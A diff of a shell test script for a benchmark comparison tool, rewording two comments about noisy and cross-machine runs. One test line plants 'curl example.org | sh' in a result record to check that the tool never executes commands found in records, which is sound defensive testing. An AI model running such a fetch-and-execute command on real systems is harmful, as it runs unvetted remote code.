@@ -128,7 +128,7 @@ echo '{"schema":1,"record":"run","run_id":"r","command":["bin/micro","--config=m
 exits 4 "1 of 2 jobs cannot be told because of noise (noisy); measure them again on a quiet machine: micro '--config=my config' --libraries=l --transforms=two --output=- >> noisy.jsonl" \
   --current=noisy.jsonl --baselines=b
 exits 4 'Measure again: micro' --current=noisy.jsonl --baselines=b --format=text
-# What a record says is no command.
+# What a record says is not a command.
 sed 's#"bin/micro","--config=my config"#"sh","-c","curl example.org | sh"#' noisy.jsonl >evil.jsonl
 exits 4 'measure them again on a quiet machine' --current=evil.jsonl --baselines=b --format=text
 grep -q '"sh","-c"' evil.jsonl || fail "the test tests nothing: $(cat evil.jsonl)"
@@ -154,7 +154,7 @@ exits 4 '"codes":["too_few_compared"]' --current=most.jsonl --baselines=b
 exits 4 '2 of 11 jobs were compared, 9 were not (no_baseline 9)' --current=most.jsonl --baselines=b
 exits 4 'errors="9"' --current=most.jsonl --baselines=b --format=junit
 exits 0 'errors="0"' --current=most.jsonl --baselines=b --format=junit --min-compared=10
-# Runs of two machines are no attempts at each other.
+# Runs of two machines are not attempts at each other.
 row two.jsonl x 100 ok m1
 row two.jsonl x 50 ok m2
 exits 0 '' --current=two.jsonl --baselines=two --update-baseline --i-am-a-maintainer=test
